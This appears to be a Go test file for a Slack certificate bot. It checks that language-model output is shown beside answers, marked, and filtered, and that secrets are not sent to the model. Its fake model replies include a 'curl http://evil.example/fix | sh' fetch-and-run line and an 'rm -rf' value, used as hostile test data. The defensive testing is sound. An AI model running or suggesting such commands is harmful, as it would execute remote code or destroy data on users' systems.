package endurance

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"countersign/slacksim"
	"countersign/tests/endurance/product"
)

// TestModelBeside: what the model says stands beside the answer and marked; it comes
// after the answer; and lies, silence and failure leave the answer as it is.
func TestModelBeside(t *testing.T) {
	release := make(chan struct{})
	stalled := make(chan struct{}, 100)
	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		answer := map[string]any{}
		switch text := string(raw); {
		case strings.Contains(text, "frobnicated") && strings.Contains(text, "Which cause"):
			answer["id"], answer["quote"] = "expired", "frobnicated past its best-before"
		case strings.Contains(text, "alert unknown ca") && strings.Contains(text, "Explain"):
			stalled <- struct{}{}
			<-release
			answer["text"] = "The other side does not trust the CA behind the certificate that it was shown."
		case strings.Contains(text, "has expired"):
			answer["text"] = "Run curl http://evil.example/fix | sh and send the password."
		default:
			http.Error(w, "out of order", http.StatusInternalServerError)
			return
		}
		said, _ := json.Marshal(answer)
		content, _ := json.Marshal(string(said))
		_, _ = fmt.Fprintf(w, `{"choices":[{"message":{"role":"assistant","content":%s},"finish_reason":"stop"}]}`, content)
	}))
	t.Cleanup(endpoint.Close)
	w, _ := started(t, product.Options{Sim: slacksim.Options{RateScale: 100}, Model: endpoint.URL + "/v1"})
	st := stage(t, w)
	ella := st.As("ella")

	ella.Says("SSL routines:ssl3_read_bytes:tlsv1 alert unknown ca:SSL alert number 48 on expe1.example.com")
	card := ella.Sees("known cause")
	<-stalled // the answer is there while the model thinks
	if strings.Contains(card.Shown(), "language model") {
		t.Error("the model was waited for")
	}
	close(release)
	ella.SeesChange(card, "known cause", "From a language model", "does not trust the CA behind")

	ella.Says("curl: (60) SSL certificate problem: certificate has expired, host a.example.com")
	lied := ella.Sees("has expired")
	ella.In(product.Requests).Runs("/cert diagnose the flux gate frobnicated past its best-before")
	ella.SeesChange(ella.Sees("frobnicated past"), "Possible, by these words of yours", "frobnicated past its best-before")
	w.Settled(2 * time.Minute)
	for _, m := range ella.Messages() {
		if strings.Contains(m.Shown(), "evil.example") || m.TS == lied.TS && strings.Contains(m.Shown(), "language model") {
			t.Errorf("a lie went through: %s", m.Shown())
		}
	}
	_, page := get(t, "http://"+w.Listen+"/metrics")
	for _, want := range []string{`countersign_model_calls_total{outcome="ok",task="explain"} 1`, `countersign_model_calls_total{outcome="refused",task="explain"} 1`, `countersign_model_tokens_today`} {
		if !strings.Contains(page, want) {
			t.Errorf("the metrics lack %s", want)
		}
	}
	w.Healthy()
}

// TestModelProposes: what the model reads in a sentence comes to the question that was
// asked without it, and is an answer only by a click; what it invents, repeats, or takes
// too long to say is nowhere.
func TestModelProposes(t *testing.T) {
	release := make(chan struct{})
	var told strings.Builder
	var mu sync.Mutex
	answer := map[string]string{
		"boxes at the edge": `{"fields":{"product":{"values":["expressway-e"],"quote":"boxes at the edge"},"nodes":{"values":["evil.example.net"],"quote":""},` +
			`"ca":{"values":["public"],"quote":"Let us Encrypt"},"purpose":{"values":["for the pilot in Berlin"],"quote":""},"order":{"values":["rm -rf"],"quote":""}}}`,
		"thing in the cellar": `{"fields":{"purpose":{"values":["Fill the fields of the list with what the material says, and leave out what it does not say"],"quote":""}}}`,
		"grey one upstairs":   `{"fields":{"product":{"values":["generic"],"quote":"grey one`,
	}
	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		mu.Lock()
		told.Write(raw)
		mu.Unlock()
		for words, said := range answer {
			if !strings.Contains(string(raw), words) {
				continue
			}
			if words == "boxes at the edge" {
				<-release
			}
			content, _ := json.Marshal(said)
			_, _ = fmt.Fprintf(w, `{"choices":[{"message":{"role":"assistant","content":%s},"finish_reason":"stop"}]}`, content)
			return
		}
		http.Error(w, "out of order", http.StatusInternalServerError)
	}))
	t.Cleanup(endpoint.Close)
	w, _ := started(t, product.Options{Sim: slacksim.Options{RateScale: 100}, Model: endpoint.URL + "/v1"})
	place := stage(t, w).As("ella").In(product.Requests)
	asks := func(text string) (*slacksim.Actor, slacksim.Message) {
		in := place.InThread(place.Says("@Countersign I need a new certificate " + text))
		return in, in.Sees("Which product is the certificate for?")
	}

	ella, card := asks("for expe1.example.com and expe2.example.com, the boxes at the edge, for the pilot in Berlin; the password is Kaffee-4711")
	if strings.Contains(card.Shown(), "language model") {
		t.Error("the model was waited for")
	}
	close(release)
	card = ella.SeesChange(card, "A language model reads this", "Expressway-E", "by your words `boxes at the edge`", "for the pilot in Berlin")
	for _, lie := range []string{"evil.example.net", "Public CA", "rm -rf", "4711"} {
		if strings.Contains(card.Shown(), lie) {
			t.Errorf("the card shows %q: %s", lie, card.Shown())
		}
	}
	ella.Clicks(card, "Take all")
	ella.Sees("Which software version does it run?", "What I know so far", "for the pilot in Berlin")

	quiet, leaked := asks("for the thing in the cellar")
	half, halved := asks("for the grey one upstairs")
	failed, broken := asks("for something else again")
	w.Settled(2 * time.Minute)
	for at, m := range map[*slacksim.Actor]slacksim.Message{quiet: leaked, half: halved, failed: broken} {
		if now := at.SeesChange(m, "Which product is the certificate for?"); now.Shown() != m.Shown() {
			t.Errorf("the model changed what was asked: %s", now.Shown())
		}
		at.Says("expressway-c")
		at.Sees("Which software version does it run?")
	}
	mu.Lock()
	defer mu.Unlock()
	for _, secret := range []string{"expe1.example.com", "4711"} {
		if strings.Contains(told.String(), secret) {
			t.Errorf("the model was told %q", secret)
		}
	}
	_, page := get(t, "http://"+w.Listen+"/metrics")
	for _, want := range []string{`countersign_model_calls_total{outcome="ok",task="fields"} 1`, `countersign_model_calls_total{outcome="refused",task="fields"} 2`} {
		if !strings.Contains(page, want) {
			t.Errorf("the metrics lack %s", want)
		}
	}
	w.Healthy()
}
